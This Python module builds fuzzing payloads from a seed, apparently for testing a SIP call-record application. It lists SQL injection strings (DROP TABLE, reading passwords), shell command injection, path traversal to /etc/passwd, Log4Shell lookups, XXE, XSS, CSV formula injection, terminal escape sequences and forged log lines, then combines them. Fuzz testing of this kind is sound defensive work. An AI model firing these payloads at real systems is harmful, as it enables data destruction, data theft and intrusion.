"""Payloads that break out of what they are put into, made from a seed by combining: a way to end the
surrounding text, a body that does something, a way to hide the rest."""
import random

SQL = (b"' OR '1'='1", b"'; DROP TABLE cdr;--", b"'); DELETE FROM cdr_leg; --", b"' UNION SELECT sql,2 FROM sqlite_master--",
       b"'||(SELECT hex(password) FROM phone)||'", b"\"; ATTACH DATABASE '/tmp/x' AS x;--", b"1;PRAGMA user_version=99;",
       b"?1", b":a", b"$1", b"@p", b"x' /* ", b"*/ ' --", b"`cdr`", b"[cdr]", b"' COLLATE NOCASE--", b"%' ESCAPE '\\",
       b"'; UPDATE cdr SET text='x", b"char(39)", b"0x27", b"''", b"'''", b"\\'", b"\\\"", b"x'00'")
SHELL = (b"$(id)", b"`id`", b"; id", b"| id", b"&& id", b"> /tmp/x", b"${IFS}id", b"!!", b"~root", b"*", b"../../etc/passwd",
         b"%2e%2e%2f", b"\\\\host\\share", b"file:///etc/passwd", b"${jndi:ldap://x/a}", b"{{7*7}}", b"<%= 7*7 %>", b"#{7*7}")
FORMAT = (b"%n", b"%s%s%s%s%s%s%s%s", b"%x%x%x%x", b"%1$n", b"%99999d", b"%*.*s", b"%1", b"%4", b"%%n", b"%p", b"{0}", b"{0.__class__}", b"%")
LINES = (b"\r\n", b"\n", b"\r", b"\0", b"%0d%0a", b"%0a", b"%00", b"%0D%0A%09", b"\\r\\n", b"\\n", b"\\0", b"\\x0a", b"\\u000a", b"\\x1b",
         b"\\x5cx1b", b"\xc2\x85", b"\xe2\x80\xa8", b"\xe2\x80\xa9", b"\x0b", b"\x0c", b"\x1a", b"%u000a", b"%25%30%61", b"\r\n ", b"\r\n\r\n")
TERMINAL = (b"\x1b[2J", b"\x1b[31m", b"\x1b]0;owned\x07", b"\x1b]52;c;aWQ=\x07", b"\x1bP+q544e\x1b\\", b"\x1b[6n", b"\x1bc", b"\x1b[?1049h",
            b"\x1b]8;;http://x\x1b\\", b"\x9b31m", b"\xc2\x9b31m", b"\xc2\x9d0;x\xc2\x9c", b"\x90x\x9c", b"\x07", b"\x08\x08\x08", b"\x7f", b"\x0e",
            b"\x05", b"\x1b[1A\x1b[2K", b"\\033[31m", b"\\e[31m", b"^[[31m")
UTF8 = (b"\xc0\xaf", b"\xc0\x80", b"\xe0\x80\x8a", b"\xf0\x80\x80\x8a", b"\xed\xa0\x80", b"\xf4\x90\x80\x80", b"\xff\xfe", b"\x80", b"\xc3", b"\xe2\x82",
        b"\xe2\x80\xae", b"\xe2\x81\xa6", b"\xe2\x80\x8b", b"\xe2\x80\x8f", b"\xef\xbb\xbf", b"\xd8\x9c", b"\xf3\xa0\x81\x81", b"\xcc\x81" * 9,
        b"\xf0\x9f\x93\x9e", b"J\xc3\xb6rg", b"\xe6\x97\xa5\xe6\x9c\xac", b"\xef\xbc\x87", b"\xe2\x80\x99", b"\xc4\xb0", b"\xc3\x9f", b"\xf8\x88\x80\x80\x80")
MARKUP = (b"<script>alert(1)</script>", b"\"><img src=x onerror=alert(1)>", b"javascript:alert(1)", b"]]>", b"<!--", b"-->", b"&lt;", b"&#x0a;",
          b"<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]>", b"\"}", b"\"},{\"id\":\"1\"", b"\\\"", b"\\u0000",
          b"- a: b", b"&a [*a]", b"!!python/object:x", b": ", b"# ", b"=cmd|' /C calc'!A0", b"+1+cmd|'x'!A0", b"-2+3+cmd|'x'!A0", b"@SUM(1+1)",
          b"\t=1+1", b"\",\"", b"\"\"", b";=1+1", b"null", b"[]", b"\xef\xbc\x9d1+1")
LOG = (b"error: store: FORGED", b"warn: Trunk near is down: FORGED", b"ready FORGED", b"info: Call refused with 403: FORGED",
       b"2026-11-28T04:00:00Z error: FORGED", b"audit FORGED", b"Answered by FORGED.", b"<14>1 FORGED", b"\\x0aerror: FORGED")
SIP = (b"<sip:a@b>", b">;tag=x", b"\"", b",", b";", b"@", b":", b"sip:a@b", b";lr", b"?Replaces=x", b"<", b">", b"\\", b"\\\"", b"SIP/2.0 200 OK",
       b"BYE sip:a@b SIP/2.0", b"z9hG4bK", b"anonymous", b"%", b"%zz", b"%e2%80%ae", b"Via: x", b"Content-Length: 0", b"=?utf-8?q?x?=")
KINDS = (SQL, SHELL, FORMAT, LINES, TERMINAL, UTF8, MARKUP, LOG, SIP)
ENDS = (b"", b"", b"'", b"\"", b"\r\n", b"\n", b"\0", b")", b">", b"\\", b"%00", b"\x1b", b"*/", b"]]>", b" ", b"-")
HIDES = (b"", b"", b"--", b"#", b"/*", b"<!--", b"\0", b"\r\n", b"\x1b[8m", b"\\", b"%", b"\xe2\x80\xae", b"\xc3", b"\"")


def payloads(count, seed=11):
    """`count` different payloads; each single body, then combinations of one to three."""
    rng, got = random.Random(seed), dict.fromkeys(b for kind in KINDS for b in kind)
    while len(got) < count:
        body = b"".join(rng.choice(rng.choice(KINDS)) for _ in range(rng.choice((1, 1, 2, 2, 3))))
        if rng.random() < 0.03:
            body *= rng.randrange(2, 40)
        got[rng.choice(ENDS) + body + rng.choice(HIDES)] = None
    return list(got)[:count]
